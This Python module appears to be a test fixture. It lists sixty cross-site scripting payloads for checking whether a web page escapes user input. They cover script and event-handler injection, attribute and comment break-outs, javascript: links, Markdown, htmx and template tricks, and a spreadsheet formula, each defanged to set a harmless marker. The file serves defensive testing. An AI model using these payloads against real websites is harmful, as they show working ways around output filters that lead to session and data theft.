"""Sixty texts that would do something where a page forgot to say that they are text; ``kzxss`` marks what that is.

They break out of text, attributes, script, style, links, comments, templates, Markdown and spreadsheets' cells, and ask
htmx to fetch. None harms anybody: they set ``document.kzxss`` or ask for /kzxss.
"""

DO = "document.kzxss=1"
PAYLOADS = [
    # out of the text
    f"<script>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT>",
    "<script src=/kzxss></script>",
    f"</p><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</select><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"</script><script>{DO}</script>",
    f"--><script>{DO}</script>",
    f"]]><script>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f"<img src=x onerror='{DO}'>",
    f'<img src="x" onerror="{DO}">',
    f"<svg onload={DO}>",
    f"<svg/onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<body onload={DO}>",
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<video src=x onerror={DO}>",
    f"<iframe src=javascript:{DO}>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'>",
    "<object data=/kzxss>",
    "<embed src=/kzxss>",
    "<base href=/kzxss/>",
    "<link rel=stylesheet href=/kzxss>",
    "<meta http-equiv=refresh content='0;/kzxss'>",
    "<form action=/kzxss><button>x</button></form>",
    "<kzxss>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'>",
    f"<template><script>{DO}</script></template>",
    # out of an attribute
    f'" onmouseover="{DO}" x="',
    f"' onmouseover='{DO}' x='",
    f'" autofocus onfocus="{DO}',
    f'"><script>{DO}</script>',
    f"'><script>{DO}</script>",
    '" style="background:url(/kzxss)" x="',
    f"` onmouseover={DO} `",
    f"x onmouseover={DO} ",
    # links
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    f"[länk](javascript:{DO})",
    f"![bild](x' onerror='{DO})",
    # htmx
    '<p hx-get="/kzxss" hx-trigger="load">',
    '<p data-hx-get="/kzxss" data-hx-trigger="load">',
    '" hx-get="/kzxss" hx-trigger="load" x="',
    '" data-hx-post="/kzxss" data-hx-trigger="load" x="',
    f'<p hx-on:load="{DO}">',
    f'<p hx-on--load="{DO}">',
    # scripts, templates, cells
    f"';{DO};//",
    f'";{DO};//',
    f"${{{DO}}}",
    "{{ kzxss }}{% kzxss %}",
    "\u2028document.kzxss=1\u2029",
    '=HYPERLINK("/kzxss";"kzxss")',
]
